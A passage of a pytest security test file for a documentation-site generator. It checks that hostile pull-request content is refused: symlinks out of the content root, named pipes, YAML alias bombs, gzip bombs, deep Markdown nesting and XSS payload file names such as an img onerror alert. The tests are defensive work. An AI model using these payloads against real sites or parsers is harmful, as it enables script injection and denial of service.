"""Content a pull request could use to do harm: links out of the content root, special files, values of
the wrong type, markup in titles and very large files. Each gets a finding (or is shown as written), never
a traceback, a hang or a published secret."""

from __future__ import annotations

import datetime
import functools
import html
import os
import re
import tempfile
import threading
from pathlib import Path

import pytest
from hypothesis import example, given, settings, strategies as st

from conftest import INTENTS, assert_no_crash, run_cli, runbook_body, stderr_of
from generator.build import BuildError, build
from generator.content import ContentRoot, Document, Intent, load
from generator.navigation import RELATED_LIMIT, SiteOutline, page_order
from generator.validate import validate

SECRET = "S3CRET-TEXT-FROM-OUTSIDE"


def rules_at(findings, rel: str) -> set[str]:
    return {f.rule for f in findings if f.path == rel}


def secret_outside(make_root) -> Path:
    """A file outside the content root, as a pull request could link to (e.g. a CI runner's key)."""
    outside = make_root.path.parent / "outside"
    outside.mkdir()
    (outside / "secret.md").write_text(f"---\nid: leaked\ntitle: Leaked\nkind: article\ntier: 0\n"
                                       f"intents: [account.password-reset]\n---\n# Leaked\n\n{SECRET}\n")
    (outside / "key.pem").write_text(SECRET)
    return outside


# --------------------------------------------------------------------------------------------------
# Content stays inside its root
# --------------------------------------------------------------------------------------------------


def test_symlinked_document_outside_the_root_is_refused_and_never_read(make_root):
    make_root.doc("kb/account/a.md")
    outside = secret_outside(make_root)
    (make_root.path / "kb/account/secret.md").symlink_to(outside / "secret.md")
    content = load(make_root.path)
    findings = validate(content)
    refused = [f for f in findings if f.path == "kb/account/secret.md"]
    assert [(f.rule, f.line, f.severity) for f in refused] == [("file-outside-root", 1, "error")]
    assert [d.rel for d in content.documents] == ["kb/account/a.md"]
    assert all(SECRET not in f.message for f in findings)


@pytest.mark.parametrize("link, target", [
    ("kb/linked", "folder"),  # a symlinked folder: nothing under it is read
    ("runbooks", "folder"),  # a whole content folder
    ("kb/account/key.pem", "key.pem"),  # an attachment
])
def test_symlinks_leading_out_are_refused(make_root, link, target):
    make_root.doc("kb/account/a.md")
    outside = secret_outside(make_root)
    (outside / "folder").mkdir()
    (outside / "folder" / "inner.md").write_text((outside / "secret.md").read_text())
    (make_root.path / link).parent.mkdir(parents=True, exist_ok=True)
    (make_root.path / link).symlink_to(outside / target)
    content = load(make_root.path)
    assert rules_at(validate(content), link) == {"file-outside-root"}
    assert [d.rel for d in content.documents] == ["kb/account/a.md"]
    assert content.attachments == []


def test_symlink_to_another_part_of_the_root_is_refused(make_root):
    """The root holds the built sites (ROOT/site by default): a link into them would copy a tier 3 page
    into the public site as an attachment."""
    make_root.doc("kb/account/a.md")
    make_root.file("site/tier3/secret/index.html", SECRET)
    (make_root.path / "kb/account/page.html").symlink_to(make_root.path / "site/tier3/secret/index.html")
    (make_root.path / "kb/up").symlink_to(make_root.path)
    findings = validate(make_root.path)
    assert rules_at(findings, "kb/account/page.html") == {"file-outside-root"}
    assert rules_at(findings, "kb/up") == {"file-outside-root"}


def test_symlinks_inside_the_content_folders_still_work(make_root):
    make_root.doc("kb/account/a.md", "# A\n\n![Logo](logo.png)\n")
    make_root.file("kb/shared/logo.png", b"\x89PNG")
    (make_root.path / "kb/account/logo.png").symlink_to(make_root.path / "kb/shared/logo.png")
    (make_root.path / "kb/alias").symlink_to(make_root.path / "kb/shared")  # a folder, walked once
    (make_root.path / "kb/shared/back").symlink_to(make_root.path / "kb")  # a loop is not followed again
    content = load(make_root.path)
    assert [f for f in validate(content) if f.severity == "error"] == []
    assert "kb/account/logo.png" in content.attachments and "kb/alias/logo.png" in content.attachments


def test_theme_files_linked_from_outside_are_refused(make_root):
    """MkDocs copies the files of the root's overrides/ into every site as theme assets."""
    make_root.doc("kb/account/a.md")
    outside = secret_outside(make_root)
    make_root.file("overrides/main.html", '{% extends "base.html" %}\n')
    (make_root.path / "overrides/assets").mkdir()
    (make_root.path / "overrides/assets/key.txt").symlink_to(outside / "key.pem")
    os.mkfifo(make_root.path / "overrides/assets/pipe.css")
    findings = validate(make_root.path)
    assert rules_at(findings, "overrides/assets/key.txt") == {"file-outside-root"}
    assert rules_at(findings, "overrides/assets/pipe.css") == {"file-not-regular"}
    assert rules_at(findings, "overrides/main.html") == set()


def test_intents_file_linked_from_outside_is_refused(make_root):
    outside = secret_outside(make_root)
    (outside / "intents.yml").write_text(INTENTS)
    (make_root.path / "intents.yml").unlink()
    (make_root.path / "intents.yml").symlink_to(outside / "intents.yml")
    make_root.doc("kb/account/a.md")
    assert rules_at(validate(make_root.path), "intents.yml") == {"file-outside-root"}


def test_fifo_is_refused_without_being_opened(make_root):
    """Opening a named pipe for reading waits for a writer forever: validation must not open it."""
    make_root.doc("kb/account/a.md")
    os.mkfifo(make_root.path / "kb/x.md")
    os.mkfifo(make_root.path / "kb/account/picture.png")
    result = {}
    worker = threading.Thread(target=lambda: result.update(findings=validate(make_root.path)), daemon=True)
    worker.start()
    worker.join(timeout=30)
    if worker.is_alive():  # unblock the reader so the test run can end, then fail
        for name in ("kb/x.md", "kb/account/picture.png"):
            with open(make_root.path / name, "w"):
                pass
        pytest.fail("validation opened a named pipe and waited on it")
    findings = result["findings"]
    assert rules_at(findings, "kb/x.md") == {"file-not-regular"}
    assert rules_at(findings, "kb/account/picture.png") == {"file-not-regular"}


def _unreadable_snippet(kind: str, path: Path) -> None:
    from generator.content import MAX_FILE_BYTES
    if kind == "folder":
        path.mkdir(parents=True)
        (path / "inner.md").write_text("Inner.\n")
        return
    path.parent.mkdir(parents=True, exist_ok=True)
    if kind == "named pipe":
        os.mkfifo(path)
    elif kind == "link loop":
        path.symlink_to(path.name)
    else:
        path.write_bytes({"not UTF-8": b"Fine.\n\xff\xfe not text\n", "byte-order mark": b"\xef\xbb\xbfFine.\n",
                          "too large": b"Words of a line.\n" * (MAX_FILE_BYTES // 17 + 1)}[kind])


@pytest.mark.parametrize("kind, where, rule", [
    ("folder", "kb/a.md", "snippet-missing"), ("named pipe", "kb/a.md", "snippet-missing"),
    ("link loop", "kb/a.md", "snippet-missing"), ("not UTF-8", "snippets/s.md", "file-encoding"),
    ("byte-order mark", "snippets/s.md", "file-bom"), ("too large", "snippets/s.md", "file-too-large")])
def test_a_snippet_kbgen_cannot_read_is_a_finding_not_a_traceback_or_a_hang(make_root, kind, where, rule):
    """The page's parse reads an include before any rule runs: it must not wait on a pipe, read a file
    beyond any page, or raise; the rules then say what is wrong, where."""
    _unreadable_snippet(kind, make_root.path / "snippets" / "s.md")
    make_root.doc("kb/a.md", '# Page\n\nPublic words.\n\n--8<-- "s.md"\n')
    result = {}
    worker = threading.Thread(target=lambda: result.update(findings=validate(make_root.path)), daemon=True)
    worker.start()
    worker.join(timeout=60)
    if worker.is_alive():
        with open(make_root.path / "snippets" / "s.md", "w"):
            pass
        pytest.fail("validation opened a named pipe and waited on it")
    assert [(f.path, f.rule) for f in result["findings"] if f.severity == "error"] == [(where, rule)]
    built = run_cli("build", "--root", str(make_root.path), "--out", str(make_root.path.parent / "out"))
    assert_no_crash(built)
    assert built.exit_code == 1 and rule in built.output + stderr_of(built)


def test_a_snippet_with_a_byte_order_mark_is_read_as_the_page_reads_it(make_root):
    """pymdownx.snippets keeps a byte-order mark as a character: before a block's marker, it makes the
    marker text. With the rule lowered, the include shows the block and is refused."""
    make_root.file("snippets/s.md", "\ufeff/// internal\nqzxsnippet words.\n///\n\nPublic snippet words.\n")
    make_root.doc("kb/a.md", '# Page\n\n--8<-- "s.md"\n')
    make_root.file("mkdocs.yml", "site_name: Help\nplugins:\n  - search\n  - kbgen:\n      rules: {file-bom: 'off'}\n")
    content = load(make_root.path)
    document = content.by_rel()["kb/a.md"]
    from generator import structure
    view = structure.view(content, document, 0)
    assert "Public snippet words." in view.text and "qzxsnippet" in view.text  # as the page shows it
    assert [(f.path, f.rule) for f in validate(content) if f.severity == "error"] == [
        ("kb/a.md", "internal-not-hidden")]


def test_a_snippet_with_lone_carriage_returns_is_read_as_the_page_reads_it(make_root):
    """The page's parse reads a lone carriage return as a line break (pymdownx.snippets reads in text mode);
    the snippet's rules, reading lines as written, see one line with a marker inside it, and refuse it."""
    make_root.file("snippets/s.md", "First line.\r\r/// internal\rqzxsnippet words.\r///\r")
    make_root.doc("kb/a.md", '# Page\n\n--8<-- "s.md"\n')
    content = load(make_root.path)
    assert [(f.path, f.rule) for f in validate(content) if f.severity == "error"] == [
        ("snippets/s.md", "internal-marker")]
    from generator import structure
    view = structure.view(content, content.by_rel()["kb/a.md"], 0)
    assert "First line." in view.text and "qzxsnippet" not in view.text


@pytest.mark.parametrize("rel", ["kb/.hidden.md", "kb/..md", "kb/.drafts/page.md", "kb/c#-sdk.md",
                                 "kb/why?.md", "kb/100%-uptime.md", "kb/a#b/page.md"])
def test_a_document_named_so_it_has_no_page_or_no_link_reaches_it_is_refused(make_root, tmp_path, rel):
    """MkDocs publishes no name starting with '.', and '#', '?' and '%' end or change an address: such a
    document would be listed and linked from the home, area and intent pages, and missing."""
    make_root.doc("kb/public.md")
    make_root.doc(rel, id="odd-name", title="Odd name page")
    findings = validate(make_root.path)
    assert rules_at(findings, rel) == {"file-name"} and "odd-name" not in load(make_root.path).by_id()
    with pytest.raises(BuildError):
        build(make_root.path, out=tmp_path / "out", tiers=[0])


@pytest.mark.parametrize("name", ['zq"><img src=x onerror=alert(1)>', "zz) <img src=x onerror=alert(1)> (x",
                                  "it's", "a`b", "a[1]", "back\\slash", "tab\there", "bell\x07"])
@pytest.mark.parametrize("kind", ["document", "attachment"])
def test_a_name_that_would_turn_a_link_into_markup_is_refused(make_root, tmp_path, name, kind):
    """Related pages, breadcrumbs and the area and intent lists write a document's address into an
    attribute or a Markdown link: '"' or ')' in its file name ended it, and the rest ran as a script on
    the public site. An attachment's name reaches the same links."""
    make_root.doc("kb/public.md")
    rel = f"kb/{name}.md" if kind == "document" else f"kb/img/{name}.png"
    if kind == "document":
        make_root.doc(rel, id="odd-name", title="Odd name page")
    else:
        make_root.file(rel, b"\x89PNG\r\n\x1a\n")
    findings = validate(make_root.path)
    assert rules_at(findings, rel) == {"file-name"}
    assert "odd-name" not in load(make_root.path).by_id() and rel not in load(make_root.path).attachments
    with pytest.raises(BuildError):
        build(make_root.path, out=tmp_path / "out", tiers=[0])


def test_socket_is_refused(make_root, tmp_path):
    import socket

    make_root.doc("kb/account/a.md")
    path = make_root.path / "kb/s.md"
    if len(str(path)) > 100:
        pytest.skip("socket path too long for AF_UNIX here")
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        assert rules_at(validate(make_root.path), "kb/s.md") == {"file-not-regular"}


@pytest.mark.slow
def test_build_publishes_nothing_from_outside(make_root, tmp_path):
    """With the refused link removed the sites build; with it the build is refused: never published."""
    make_root.doc("kb/account/a.md", "# A\n\n[Key](key.pem)\n")
    outside = secret_outside(make_root)
    (make_root.path / "kb/account/key.pem").symlink_to(outside / "key.pem")
    (make_root.path / "kb/account/secret.md").symlink_to(outside / "secret.md")
    with pytest.raises(BuildError) as info:
        build(make_root.path, out=tmp_path / "out", tiers=[0])
    assert {f.rule for f in info.value.findings} >= {"file-outside-root"}
    assert not (tmp_path / "out" / "tier0").exists()


# --------------------------------------------------------------------------------------------------
# Values of the wrong type: a finding with file, line and rule
# --------------------------------------------------------------------------------------------------

WRONG_TYPES = [  # (kind, tier, extra front matter line, the rule expected on that line)
    ("runbook", 1, "escalation: {to_tier: 2, when: x, runbook: [a]}", "field-type"),
    ("runbook", 1, "escalation: {to_tier: 2, when: x, runbook: {a: 1}}", "field-type"),
    ("runbook", 1, "escalation: 3", "field-type"),
    ("article", 0, "known_issue: [x]", "field-type"),
    ("article", 0, "tags: {a: 1}", "field-type"),
    ("article", 0, "tags: 3", "field-type"),
    ("article", 0, "summary: [a, b]", "field-type"),
    ("defect", 3, "fed: {article: x, runbooks: 3}", "field-type"),
    ("defect", 3, "fed: [x]", "field-type"),
    ("article", 0, "owner: {team: x}", "field-type"),
]


@pytest.mark.parametrize("kind, tier, line, rule", WRONG_TYPES)
def test_wrong_type_in_front_matter_is_a_finding(make_root, kind, tier, line, rule):
    body = runbook_body("A") if kind == "runbook" else "# A\n\nText.\n"
    make_root.file("kb/a.md", f"---\nid: a\ntitle: A\nkind: {kind}\ntier: {tier}\n"
                              f"intents: [account.password-reset]\n{line}\n---\n{body}")
    findings = validate(make_root.path)
    assert any(f.path == "kb/a.md" and f.line == 7 and f.rule == rule for f in findings), findings


def test_intents_listed_as_lists_is_a_finding(make_root):
    make_root.file("kb/a.md", "---\nid: a\ntitle: A\nkind: article\ntier: 0\nintents: [[a]]\n---\n# A\n")
    findings = validate(make_root.path)
    assert any(f.path == "kb/a.md" and f.line == 6 and f.rule == "field-type" for f in findings), findings


INTENTS_WRONG = [  # intents.yml text, line of the finding
    ("areas: [{id: [x], title: X}]\nintents: []\n", 1),
    ("areas: 3\nintents: []\n", 1),
    ("areas: [{id: account, title: {a: 1}, description: [x]}]\nintents: []\n", 1),
    ("intents: 3\n", 1),
    ("intents:\n  - [account.password-reset]\n", 2),
    ("intents:\n  - id: account.password-reset\n    title: [x]\n    phrasings: 3\n    resolution_tier: 0\n", 3),
    ("intents:\n  - id: {a: 1}\n    title: X\n    resolution_tier: 0\n", 2),
    ("intents:\n  - id: account.password-reset\n    title: X\n    phrasings: [[a], {b: 1}]\n"
     "    resolution_tier: [0]\n    common: yes please\n", 4),
]


@pytest.mark.parametrize("text, line", INTENTS_WRONG)
def test_wrong_type_in_intents_is_a_finding(make_root, text, line):
    make_root.file("intents.yml", text)
    make_root.doc("kb/account/a.md")
    findings = validate(make_root.path)
    at = [f for f in findings if f.path == "intents.yml"]
    assert any(f.line == line and f.rule in ("field-type", "field-value", "intents-schema") for f in at), at


# --------------------------------------------------------------------------------------------------
# YAML size: long files are read, alias bombs are not
# --------------------------------------------------------------------------------------------------


def test_large_intents_file_without_aliases_is_read(make_root):
    lines = ["intents:"]
    for number in range(1500):
        lines += [f"  - id: account.topic-{number}", f"    title: Topic {number}", "    resolution_tier: 0",
                  "    phrasings:", *(f"      - how do I do thing {n} in topic {number}" for n in range(10))]
    make_root.file("intents.yml", "\n".join(lines) + "\n")
    make_root.doc("kb/account/a.md", intents=["account.topic-1499"])
    assert len("\n".join(lines)) > 290_000
    content = load(make_root.path)
    assert [f for f in validate(content) if f.severity == "error"] == []
    assert len(content.intents) == 1500 and len(content.intents["account.topic-1499"].phrasings) == 10


@pytest.mark.parametrize("where", ["intents.yml", "kb/account/a.md"])
def test_alias_bomb_is_refused(make_root, where):
    bomb = ["a: &a [x, x, x, x, x, x, x, x, x, x]"]
    for level in "bcdefgh":
        previous = chr(ord(level) - 1)
        bomb.append(f"{level}: &{level} [{', '.join([f'*{previous}'] * 10)}]")
    if where == "intents.yml":
        make_root.file("intents.yml", INTENTS + "\n".join(bomb) + "\n")
        make_root.doc("kb/account/a.md")
    else:
        make_root.file(where, "---\nid: a\ntitle: A\nkind: article\ntier: 0\nintents: [account.password-reset]\n"
                              + "\n".join(bomb) + "\n---\n# A\n")
    findings = validate(make_root.path)
    assert any(f.path == where and f.rule == "yaml-syntax" and "aliases" in f.message for f in findings), findings


# --------------------------------------------------------------------------------------------------
# Markup in what writers typed shows as written, in every page of every tier
# --------------------------------------------------------------------------------------------------

# Every text field gets its own tag, which must never reach a page as a tag; the Markdown specials after it
# must show as written, not become links, emphasis or tables.
ODD = " [a](b) *s* _u_ | p & q &lt;x&gt; `c`"


def odd(field: str) -> str:
    """A YAML double-quoted value: a tag naming the field, then Markdown and HTML specials."""
    return '"' + f"<kbx-{field}>{ODD}".replace("\\", "\\\\").replace('"', '\\"') + '"'


def hostile_root(make) -> None:
    make.file("intents.yml", f"""\
areas:
  - id: account
    title: {odd("area-title")}
    description: {odd("area-description")}
intents:
  - id: account.password-reset
    title: {odd("intent-title")}
    phrasings: [{odd("phrasing")}]
    resolution_tier: 1
    common: true
""")
    make.file("mkdocs.yml", f"""\
INHERIT: {Path(__file__).resolve().parent.parent / "generator" / "defaults" / "mkdocs.yml"}
site_name: Help
plugins:
  - search
  - kbgen:
      contact_routes:
        - {{name: {odd("route-name")}, url: "https://example.com/?a=1&b=<kbx-route-url>", hours: {odd("hours")}}}
""")
    common = {"intents": "[account.password-reset]"}
    make.doc("kb/account/a.md", "# A\n\nText.\n", id="a", title=odd("title"), summary=odd("summary"),
             owner=odd("owner"), tags=f"[{odd('tag')}]", last_reviewed="2025-01-01",
             known_issue=f"{{since: 2025-01-01, fixed_in: {odd('fixed-in')}}}", **common)
    make.doc("kb/account/b.md", "# B\n\nText.\n", id="b", title=odd("title-b"), summary=odd("summary-b"), **common)
    make.doc("runbooks/tier1/r1.md", runbook_body("R1"), id="r1", title=odd("runbook-title"), owner=odd("runbook-owner"),
             escalation=f"{{to_tier: 2, when: {odd('when')}, runbook: r2}}", **common)
    make.doc("runbooks/tier2/r2.md", runbook_body("R2"), id="r2", tier=2, title=odd("runbook2-title"), **common)
    make.doc("kb/defects/DEF-0001.md", "# D\n\nText.\n", id="DEF-0001", kind="defect", tier=3,
             title=odd("defect-title"), severity="P2", state="open", reported_on="2025-01-01",
             review_by="2020-01-01", owner=odd("defect-owner"), **common)


@pytest.fixture(scope="module")
def hostile_sites(tmp_path_factory) -> Path:
    from conftest import RootMaker

    make = RootMaker(tmp_path_factory.mktemp("hostile") / "root")
    hostile_root(make)
    out = make.path.parent / "out"
    build(make.path, out=out)
    return out


@pytest.mark.slow
def test_no_written_text_becomes_markup_in_any_tier(hostile_sites):
    pages = sorted(hostile_sites.glob("tier*/**/*.html"))
    assert len(pages) > 20
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "<kbx-" not in text, f"{page}: {re.findall(r'.{60}<kbx-.{20}', text)[:3]}"
        for href in re.findall(r'href="([^"]*)"', text):
            assert href != "b", f"{page}: a title became a link"
    for tier, field in [(0, "area-title"), (0, "intent-title"), (0, "phrasing"), (0, "title"), (0, "summary"),
                        (0, "fixed-in"), (0, "area-description"), (0, "route-name"), (0, "hours"),
                        (1, "runbook-title"), (1, "when"), (1, "owner"), (2, "runbook2-title"),
                        (3, "defect-title"), (3, "defect-owner")]:
        shown = " ".join(html.unescape(re.sub(r"<[^>]+>", " ", p.read_text(encoding="utf-8")))
                         for p in (hostile_sites / f"tier{tier}").glob("**/*.html"))
        assert f"<kbx-{field}>{ODD}" in " ".join(shown.split()), f"tier {tier}: {field} is not shown as written"


@pytest.mark.slow
def test_titles_show_as_written_in_header_and_browser_tab(hostile_sites):
    page = (hostile_sites / "tier0/kb/account/a/index.html").read_text(encoding="utf-8")
    tab = re.search(r"<title>(.*?)</title>", page, re.S)[1]
    assert html.unescape(tab).startswith(f"<kbx-title>{ODD} - ")
    area = (hostile_sites / "tier0/areas/account/index.html").read_text(encoding="utf-8")
    assert html.unescape(re.search(r"<title>(.*?)</title>", area, re.S)[1]).startswith(f"<kbx-area-title>{ODD}")


# --------------------------------------------------------------------------------------------------
# Generated pages: the quick related list is the one the definition gives
# --------------------------------------------------------------------------------------------------


def related_by_definition(outline: SiteOutline, document: Document) -> list[Document]:
    """Every other document of the site by intents shared, most first, then in the order of intent pages."""
    mine = set(document.intents)
    others = [d for d in outline.documents if d is not document and mine & set(d.intents)]
    return sorted(others, key=lambda d: (-len(mine & set(d.intents)), *page_order(d)))[:RELATED_LIMIT]


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(st.lists(st.sampled_from("abcde"), min_size=1, max_size=3, unique=True),
                          st.integers(0, 1), st.sampled_from(["article", "runbook"]), st.sampled_from("XYZ")),
                min_size=1, max_size=25))
def test_related_pages_are_those_sharing_the_most_intents(specs):
    intents = {f"area.{letter}": Intent(f"area.{letter}", letter, [], 0, 1) for letter in "abcde"}
    documents = [Document(f"kb/d{n:02d}.md", Path(f"d{n}.md"),
                          {"id": f"d{n}", "title": title, "kind": kind, "tier": tier,
                           "intents": [f"area.{letter}" for letter in letters]}, "", 1, None)
                 for n, (letters, tier, kind, title) in enumerate(specs)]
    content = ContentRoot(Path("."), documents, intents, {}, None)
    outline = SiteOutline.of(content, 1)
    for document in outline.documents:
        assert outline.related(document) == related_by_definition(outline, document)


# --------------------------------------------------------------------------------------------------
# Generated Markdown: any text shows as written, wherever it lands
# --------------------------------------------------------------------------------------------------


@functools.cache
def default_root() -> ContentRoot:
    """An empty content root: its pages render with kbgen's default configuration."""
    return ContentRoot(Path(tempfile.mkdtemp()), [], {}, {}, None)


def example_each(texts):
    """Hypothesis examples, one per text: the constructs random text rarely spells out."""
    def decorate(test):
        for text in reversed(texts):
            test = example(text)(test)
        return test
    return decorate


def render_like_a_site(markdown_text: str) -> str:
    """Markdown as a tier 0 page renders it (the document model's pipeline, as MkDocs is given it)."""
    from generator.structure import render_html

    return render_html(default_root(), markdown_text, 0)[0]


def shown_text(rendered: str) -> str:
    return " ".join(html.unescape(re.sub(r"<[^>]+>", "", rendered)).split())


LINE_STARTS = ["- a", "1. a", "2) a", "~~~", "```", "/// internal", '=== "x"', ": a", "+ a", "> a", "# a", "    a",
               "a | b", "&amp;", "&lt;b&gt;", "<b>x</b>", "[x](y)", "*a*", "[^1]", "[ ] a", "{: .x }", "a  \\", "]:)", "[a]: b"]


@settings(max_examples=500, deadline=None)
@given(st.text(st.sampled_from("ab 1.)-=~/:|*_`[]()<>&#!+{}\\^$'\"\t;"), min_size=1, max_size=14)
       .filter(lambda text: text.strip()))
@example_each(LINE_STARTS)
def test_generated_markdown_shows_any_text_as_written(text):
    from generator.navigation import md_escape

    written = " ".join(text.split())
    escaped = md_escape(text)
    for place in (f"{escaped}", f"# {escaped}", f"- [{escaped}](x.md): {escaped}",
                  f"| A |\n| --- |\n| {escaped} |"):
        rendered = render_like_a_site(place)
        shown = shown_text(rendered.replace('<a class="headerlink"', "<x ").split("<x ")[0])
        assert shown == written or shown == f"{written}: {written}" or (
            place.startswith("|") and shown == f"A {written}"), (place, rendered)


def test_a_named_pipe_for_mkdocs_yml_is_refused_without_being_opened(make_root):
    make_root.doc("kb/a.md")
    os.mkfifo(make_root.path / "mkdocs.yml")
    result = run_cli("validate", "--root", str(make_root.path))
    assert result.exit_code == 1 and "mkdocs.yml:1:1: error [file-not-regular]" in result.output


def test_kbgen_new_never_writes_through_a_folder_linked_out_of_the_root(make_root, tmp_path):
    make_root.doc("kb/account/a.md")
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (make_root.path / "kb" / "billing").symlink_to(outside, target_is_directory=True)
    result = run_cli("new", "article", "--root", str(make_root.path), "--intent", "billing.refund", "Refund rules")
    assert result.exit_code != 0 and "symbolic link" in stderr_of(result) + result.output
    assert list(outside.iterdir()) == []


# Nesting deeper than Markdown can follow --------------------------------------------------------------------
DEEP = {
    "lists": "".join("    " * level + "- item\n" for level in range(300)),
    "emphasis": "*" * 19_000 + "a" + "*" * 19_000 + "\n",
    "brackets": "[" * 5_000 + "a" + "](x)" * 5_000 + "\n",  # Markdown's time grows with their square
    "autolinks": "<http://a" * 4_000 + "\n",
}


@pytest.mark.parametrize("shape", DEEP)
def test_nesting_markdown_cannot_read_is_a_finding_not_a_traceback(make_root, tmp_path, shape):
    make_root.doc("kb/a.md", "# Page\n\nIntro.\n\n" + DEEP[shape], id="a", title="Page")
    body_line = load(make_root.path).by_rel()["kb/a.md"].body_line
    at = body_line + (4 if shape in ("brackets", "autolinks") else 0)  # the crowded line itself
    assert [(f.rule, f.line) for f in validate(load(make_root.path))] == [("markdown-too-deep", at)]
    for command in (["validate"], ["build", "--out", str(tmp_path / "out")], ["search", "item"]):
        result = run_cli(*command, "--root", str(make_root.path))
        assert_no_crash(result)
        assert result.exit_code == (0 if command == ["search", "item"] else 1), result.output


def test_a_few_levels_of_nesting_are_read(make_root):
    make_root.doc("kb/a.md", "# Page\n\n" + "".join("    " * level + "- item\n" for level in range(12))
                  + "\n" + "> " * 30 + "quote\n", id="a", title="Page")
    assert validate(load(make_root.path)) == []


def test_a_file_or_a_line_beyond_any_page_is_a_finding(make_root):
    from generator.content import MAX_FILE_BYTES, MAX_LINE_CHARS
    make_root.doc("kb/big.md", "# Page\n\n" + "Words of a line.\n" * (MAX_FILE_BYTES // 17 + 1), id="big", title="Page")
    make_root.doc("kb/wide.md", "# Page\n\nIntro.\n\n" + "x" * (MAX_LINE_CHARS + 1) + "\n", id="wide", title="Page")
    make_root.doc("kb/fine.md", "# Page\n\n" + "word " * 2_000 + "\n", id="fine", title="Page")
    findings = [(f.path, f.line, f.rule) for f in validate(load(make_root.path)) if f.severity == "error"]
    assert findings == [("kb/big.md", 1, "file-too-large"), ("kb/wide.md", 12, "file-line-too-long")]
    result = run_cli("build", "--root", str(make_root.path), "--out", str(make_root.path.parent / "out"))
    assert_no_crash(result)
    assert result.exit_code == 1 and "file-line-too-long" in result.output + stderr_of(result)


# Lines kbgen's own patterns must read in one pass ------------------------------------------------------------
@pytest.mark.parametrize("line, rules", [
    ("/ " * 19_990, []),  # spaces between slashes are taken out before a marker is looked for
    ("`" * 39_990, ["fence-unclosed"]),
    ("x" + "`a" * 19_990, []),
    ('--8<-- "' + "a:1" * 13_000 + '"', ["snippet-outside"]),  # a name the file system refuses is no traceback
    ('--8<-- "' + "a" * 5_000 + '.md"', ["snippet-missing"]),
])
def test_long_lines_are_read_in_one_pass(make_root, line, rules):
    make_root.doc("kb/a.md", f"# Page\n\n{line}\n", id="a", title="Page")
    assert sorted({f.rule for f in validate(load(make_root.path))}) == rules


@pytest.mark.parametrize("text, spans", [
    ("`a` and ``b`c``", ["`a`", "``b`c``"]),
    ("``a` b", []),  # a run closes only with a run as long
    ("```a``` `b`", ["```a```", "`b`"]),
    ("x `` y", []),
])
def test_code_spans_are_runs_of_the_same_length(text, spans):
    from generator.structure import CODE_SPAN_RE
    assert [match[0] for match in CODE_SPAN_RE.finditer(text)] == spans


@pytest.mark.parametrize("line, late", [
    ("x///internal", True), ("Text ///internal", True), ("Text // internal", False), ("////internal", True), ("//internal", False),
    ("/x//internal", True), ("a//internal", True), ("a/internal", False),
])
def test_a_marker_after_other_text_is_found(line, late):
    from generator.structure import LATE_MARKER_RE
    assert bool(LATE_MARKER_RE.search(line)) == late


@pytest.mark.parametrize("line, finding", [
    ("See https://internal.example/wiki for the flag.", False),
    ("The admin tool <http://internal-admin/accounts> and [the wiki](https://internal/wiki).", False),
    ("Ask on https://x.example/a/// internal", True),  # after the address: a marker after other text
    ("Note:/// internal", True),
    ("Note https:// internal", True),  # no address: nothing follows its slashes
    ("a.b" * 13_000 + "://x", False),  # read in one pass
])
def test_an_address_is_no_marker_after_other_text(make_root, line, finding):
    """Links to internal tools are common in runbooks: ``https://internal.example`` holds slashes before
    the word, but no marker; text before a marker is still found, after an address too."""
    make_root.doc("kb/a.md", f"# Page\n\n{line}\n", id="a", title="Page")
    rules = {f.rule for f in validate(load(make_root.path))}
    assert ("internal-marker" in rules) == finding


@pytest.mark.parametrize("depth", [900, 3_000, 200_000])
def test_an_attachment_of_json_nested_deeper_than_python_recurses_is_built_and_audited(make_root, depth):
    """The audit reads a JSON file's strings; one nested deeper than Python recurses is read as text, and a
    string deep inside is still searched."""
    from generator.audit import _read
    nested = "[" * depth + '"Qzxdeep agents reset the ledger flag first"' + "]" * depth
    make_root.file("kb/data.json", nested)
    make_root.doc("kb/a.md", "# Page\n\nDownload [the data](data.json).\n")
    built = run_cli("build", "--root", str(make_root.path), "--out", str(make_root.path.parent / "out"),
                    "--tier", "0")
    assert_no_crash(built)
    assert built.exit_code == 0, built.output + stderr_of(built)
    text, chunks = _read(make_root.path.parent / "out" / "tier0" / "kb" / "data.json")
    assert "Qzxdeep agents reset the ledger flag first" in text and any("Qzxdeep" in chunk for chunk in chunks)


def _gzip_of_zeros(path: Path, size: int) -> None:
    import gzip
    path.parent.mkdir(parents=True, exist_ok=True)
    with gzip.open(path, "wb", compresslevel=1) as stream:
        for _ in range(size // 2 ** 20):
            stream.write(b"0" * 2 ** 20)


def test_an_attachment_with_more_text_than_the_audit_reads_is_refused_before_the_build(make_root):
    """A 1 MB gzip file can hold a gigabyte: the audit would take minutes and gigabytes to read it."""
    from generator.content import AUDITED_BYTES
    _gzip_of_zeros(make_root.path / "kb" / "export.csv.gz", AUDITED_BYTES + 2 ** 20)
    _gzip_of_zeros(make_root.path / "kb" / "tools.tar.gz", AUDITED_BYTES + 2 ** 20)  # an archive, as a .zip
    make_root.file("kb/broken.json.gz", b"\x1f\x8b\x08\x00not gzip at all")  # no reader opens it: not text
    make_root.doc("kb/a.md", "# Page\n\nDownload [the export](export.csv.gz), [the tools](tools.tar.gz) or "
                             "[this](broken.json.gz).\n")
    findings = [(f.path, f.rule) for f in validate(make_root.path) if f.severity == "error"]
    assert findings == [("kb/export.csv.gz", "attachment-too-large")]
    built = run_cli("build", "--root", str(make_root.path), "--out", str(make_root.path.parent / "out"))
    assert_no_crash(built)
    assert built.exit_code == 1 and "attachment-too-large" in built.output + stderr_of(built)
    (make_root.path / "kb" / "export.csv.gz").unlink()
    make_root.doc("kb/a.md", "# Page\n\nDownload [this](broken.json.gz) or [the tools](tools.tar.gz).\n")
    built = run_cli("build", "--root", str(make_root.path), "--out", str(make_root.path.parent / "out"))
    assert_no_crash(built)
    assert built.exit_code == 0, built.output + stderr_of(built)


def test_the_audit_names_a_file_it_cannot_read_whole(make_root, tmp_path):
    from generator.audit import audit_site
    from generator.content import AUDITED_BYTES
    make_root.doc("runbooks/r.md", tier=1)
    make_root.doc("kb/a.md", "# Page\n\nText.\n")
    site = tmp_path / "site"
    _gzip_of_zeros(site / "data" / "export.json.gz", AUDITED_BYTES + 2 ** 20)
    (site / "data" / "small.json.gz").write_bytes(__import__("gzip").compress(b'{"a": "fine"}'))
    leaks = audit_site(load(make_root.path), 0, site)
    assert [leak.as_text() for leak in leaks] == [
